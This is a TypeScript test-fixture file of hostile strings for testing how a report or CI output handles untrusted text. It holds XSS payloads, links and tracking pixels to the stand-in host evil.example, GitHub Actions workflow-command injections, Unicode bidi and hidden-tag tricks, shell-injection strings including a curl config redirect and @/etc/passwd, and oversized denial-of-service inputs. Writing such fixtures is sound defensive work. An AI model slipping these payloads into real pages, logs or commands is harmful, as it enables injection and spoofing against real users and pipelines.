/**
 * Texts that mean harm to whoever shows them, for tests of what a server or a configuration value may do to a report.
 * Made for this project; `idea` names the public text that says why it is harmful.
 */
export interface Hostile {
  readonly description: string;
  readonly text: string;
  readonly idea: string;
}

/** What makes a link or a tag in these texts points here, so that a test can look for it. */
export const EVIL = 'evil.example';

type Row = readonly [description: string, text: string];

const group = (idea: string, rows: readonly Row[]): readonly Hostile[] =>
  rows.map(([description, text]) => ({ description, text, idea }));

const TABLES = group('GFM 4.10, tables; HTML, section 4.9', [
  ['a pipe', 'left | right'],
  ['an escaped pipe', 'left \\| right \\\\| end'],
  ['a pipe in a code span', '`left | right`'],
  ['a row of its own', 'x |\n| a | b | c | d | e | f | g |'],
  ['a delimiter row', '| a |\n| :-- |\n| b |'],
  ['the end of the cell and of the table', 'x</td></tr></table><h1>after</h1>'],
  ['a table inside', '<table><tr><td>a</td></tr></table>'],
]);

const BLOCKS = group('CommonMark 0.31, leaf and container blocks', [
  ['a fence of backticks', '```\nfence\n```'],
  ['a fence of tildes', '~~~~\nfence\n~~~~'],
  ['a fence that never ends', '````mermaid\ngantt'],
  ['indented code', '\n\n    indented\n\tby a tab'],
  ['an ATX heading', '\n# heading'],
  ['a setext heading', 'heading\n=======\nother\n---'],
  ['a thematic break', '\n* * *\n___'],
  ['a quotation', '\n> quoted'],
  ['lists', '\n- item\n+ item\n* item\n1. item\n2) item'],
  ['an item at the start', '- item'],
  ['a number at the start', '1986. A year'],
  ['a blank line and a paragraph', 'one\n\n\n\ntwo'],
]);

const INLINES = group('CommonMark 0.31, inlines', [
  ['emphasis', '**bold** __bold__ *em* _em_ ~~gone~~ ~gone~'],
  ['code spans', '`code` ``co`de`` ` `'],
  ['a lone backtick', 'one ` and no other'],
  ['a hard break', 'one  \ntwo\\\nthree'],
  ['character references', '&lt;b&gt; &amp; &#64;x &#x40;y &copy; &NewLine; &vert;'],
  ['backslashes', '\\`\\*\\_\\<\\[\\\\'],
  ['a backslash at the end', 'end\\'],
]);

const HTML = group('CommonMark 4.6 and 6.6, HTML; OWASP, XSS filter evasion', [
  ['a script', '<script>alert(1)</script>'],
  ['an image with a handler', '<img src=x onerror=alert(1)>'],
  ['an SVG', '<svg/onload=alert(1)>'],
  ['an image of another host', `<img src="https://${EVIL}/p.png" width=1>`],
  ['a link', `<a href="https://${EVIL}">click</a>`],
  ['the end of code and bold', '</code></b></sup></summary></details>after'],
  ['a part that folds', '<details open><summary>more</summary>hidden</details>'],
  ['a folded part that never ends', '<details><summary>swallow'],
  ['a comment', '<!-- hidden -->shown'],
  ['a comment that never ends', '<!-- swallow'],
  ['the end of a comment', '--> <!-->'],
  ['character data', '<![CDATA[ hidden ]]>'],
  ['a processing instruction', '<?php hidden ?>'],
  ['a declaration', '<!DOCTYPE html>'],
  ['a form', '<form action=//x><input type=password><button>Log in</button></form>'],
  ['a tag that never ends', '<a href="'],
  ['raw text', '<textarea><title><style><xmp><plaintext>'],
  ['frames and styles', '<iframe src=//x></iframe><style>*{display:none}</style>'],
  ['what closes an attribute', `" onmouseover="alert(1)" x='`],
]);

const LINKS = group('CommonMark 6.3 to 6.5; GFM 6.9, autolinks (extension)', [
  ['an inline link', `[click](https://${EVIL} "title")`],
  ['a link to a script', '[click](javascript:alert(1))'],
  ['a relative link', '[click](../../settings) [x](/logout)'],
  ['an image', `![pixel](https://${EVIL}/p.png)`],
  ['a reference and its definition', `[click][x]\n\n[x]: https://${EVIL}`],
  ['a definition at the start', `[Billing API]: https://${EVIL}`],
  ['an autolink', `<https://${EVIL}> <me@${EVIL}>`],
  ['a bare address', `see https://${EVIL}/path?x=1 and ftp://${EVIL}`],
  ['a bare www', `see www.${EVIL}/login`],
  ['WWW in capital letters', `see WWW.${EVIL}`],
  ['a mail address', `write to me@${EVIL}`],
  ['mailto: and xmpp:', `mailto:me@${EVIL} xmpp:me@${EVIL}/home`],
  ['an address behind punctuation', `(https://${EVIL}) *https://${EVIL}* ~https://${EVIL}~`],
  ['an address of GitHub', 'https://github.com/acme/app/issues/1'],
]);

const GITHUB = group(
  'GitHub Docs, "Basic writing and formatting syntax", "Autolinked references and URLs"',
  [
    ['a person', '@octocat please'],
    ['a team', 'cc @acme/payments.'],
    ['a person in brackets', '(@octocat) /@octocat -@octocat'],
    ['an issue', '#1 (#2) fixes #3'],
    ['an issue with GH', 'GH-1 and gh-2'],
    ['an issue of another repository', 'acme/app#1 octocat#4'],
    ['a commit', 'a5c3785ed8d6a35868bc169f07e40e889087fd2e'],
    ['a short commit', 'see a5c3785.'],
    ['a commit of somebody', 'octocat@a5c3785ed8d6a35868bc169f07e40e889087fd2e acme/app@a5c3785'],
    ['emoji', ':tada: :+1::-1: x:rocket:y :100: 1:1234:'],
    ['an alert', '\n> [!WARNING]\n> Your token leaked'],
    ['an alert at the start', '[!CAUTION]'],
    ['tasks', '- [x] done\n- [ ] task'],
    ['a footnote', 'note[^1]\n\n[^1]: the note'],
    ['a footnote in the text', 'note^[inline]'],
    ['a colour', '`#0969DA` `rgb(9, 105, 218)`'],
    ['a suggestion', '```suggestion\nx\n```'],
  ],
);

const MATH = group('GitHub Docs, "Writing mathematical expressions"', [
  ['a formula', 'costs $x^2$ and more'],
  ['a formula in backticks', '$`x^2`$'],
  ['a block', '\n$$\n\\unicode{x2f}\n$$'],
  ['a fence', '```math\nx\n```'],
  ['two prices', 'from $5 to $7'],
]);

const MERMAID = group('Mermaid documentation: directives, Gantt, interaction', [
  ['a directive', '%%{init: {"theme":"dark","securityLevel":"loose"}}%%'],
  ['a section', 'x\nsection other'],
  ['a section alone', 'section other'],
  ['a click', `x\nclick a href "https://${EVIL}"`],
  ['a call', 'click a call alert(1)'],
  ['a task', 'Task :crit, 2020-01-01, 9999d'],
  ['a title and a format', 'title: gone\n  dateFormat X\n  excludes weekends'],
  ['a comment', 'x %% hidden'],
  ['separators', 'a; b # c, d : e'],
  ['accessibility', 'accTitle: gone\naccDescr { gone }'],
  ['front matter', '---\ntitle: gone\n---'],
]);

const COMMANDS = group('GitHub Docs, "Workflow commands"; actions/runner, ActionCommand.cs', [
  ['an error', '::error file=a.js,line=1::injected'],
  ['an error on a line of its own', 'x\n::error::injected'],
  ['an error behind a carriage return', 'x\r::warning::injected\r\n::notice::injected'],
  ['an error behind spaces', '   ::error::injected'],
  ['a mask', '::add-mask::e'],
  ['an output', '::set-output name=outcome::pass'],
  ['no more commands', '::stop-commands::token'],
  ['the old form', '##[error]injected ##[group]x ##vso[task.setvariable]'],
  ['the old form inside', 'text ##[add-mask]e'],
  ['escapes of commands', '%0A::error::injected%0D%25'],
  ['a heredoc of an output file', 'x\nEOF\noutcome=pass\nghadelimiter_0'],
  ['a property', 'x,file=other.yml,line=9::'],
]);

const UNICODE = group('Unicode TR36, UTS #39, UAX #9; CVE-2021-42574', [
  ['colours of a terminal', '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007click'],
  ['bidirectional overrides', 'a\u202egnp.exe\u202c \u202dx'],
  ['bidirectional isolates', 'a\u2066b\u2067c\u2068d\u2069 \u200e\u200f\u061c'],
  ['nothing wide', 'a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh'],
  [
    'tags',
    `x${[...'hidden'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}`,
  ],
  ['selectors that carry bytes', 'x\ufe01\ufe02\u{e0101}\u{e01ef}😀\u{e0100}\u{e0101}'],
  ['fillers', 'a\u115fb\u3164c\uffa0d\u2800e\u034ff'],
  ['a flood of marks', `Z${'\u0301\u0316\u0489'.repeat(60)}algo`],
  ['right to left', '\u05d0\u05d1\u05d2 \u0627\u0644\u0639 123 abc'],
  [
    'quotes that are none',
    '\u02baquoted\u02ba \uff40code\uff40 \uff5c \uff1cb\uff1e \u02bc\u2018\u201c',
  ],
  ['letters of others', '\u0440\u0430\u0443\u0440\u0430l \u0455\u0435\u0441ur\u0435'],
  ['separators', 'a\u2028b\u2029c\u0085d\u000be\u000cf'],
  ['spaces', 'a\u00a0b\u2003c\u3000d'],
  ['NUL and its kind', 'a\u0000b\u0001c\u0008d\u007fe\u009bf'],
  ['half a pair', 'a\ud800b\udc00c'],
  ['what is no character', 'a\ufffeb\uffffc\u{10ffff}d'],
  ['interlinear notes', 'a\ufff9b\ufffac\ufffbd'],
]);

const SHELL = group('OWASP, OS command injection; bash(1), curl(1) --config', [
  ['substitutions', '$(touch pwned) `touch pwned` ${IFS} $HOME'],
  ['quotes', `'; touch pwned; ' "; touch pwned; "`],
  ['operators', '; touch pwned & touch pwned | touch pwned > pwned # x'],
  ['a line of its own', 'x\ntouch pwned\n'],
  ['an option of curl', 'x"\nurl = "http://evil.example/\noutput = "pwned'],
  ['a backslash before a quote', 'x\\"\noutput = "pwned" #'],
  ['a file', '@/etc/passwd'],
  ['formats', '%s %n %41 \\x41 \\n \\'],
  ['history and globs', '!! !x ~ * ? [a-z] {a,b}'],
  ['ANSI-C quoting', `$'\\x27' \\'`],
]);

/** Every short text of the collection. */
export const HOSTILE: readonly Hostile[] = [
  ...TABLES,
  ...BLOCKS,
  ...INLINES,
  ...HTML,
  ...LINKS,
  ...GITHUB,
  ...MATH,
  ...MERMAID,
  ...COMMANDS,
  ...UNICODE,
  ...SHELL,
];

/** Texts that harm by their length. */
export const LONG: readonly Hostile[] = group(
  'CommonMark: runs of delimiters; OWASP, denial of service',
  [
    ['1 MB of letters', 'x'.repeat(1_000_000)],
    ['100,000 backticks', '`'.repeat(100_000)],
    ['100,000 backticks apart', '` '.repeat(100_000)],
    ['100,000 brackets', '['.repeat(100_000)],
    ['100,000 quotations', '> '.repeat(100_000)],
    ['100,000 tags', '<b>'.repeat(100_000)],
    ['100,000 pipes', '| '.repeat(100_000)],
    ['100,000 marks on a letter', `e${'\u0301'.repeat(100_000)}`],
    ['100,000 lines', 'x\n'.repeat(100_000)],
  ],
);

/** The text of a row by its description, for tests that need a certain one. */
export function hostile(description: string): string {
  const row = [...HOSTILE, ...LONG].find((one) => one.description === description);
  if (row === undefined) throw new Error(`There is no hostile text "${description}".`);
  return row.text;
}
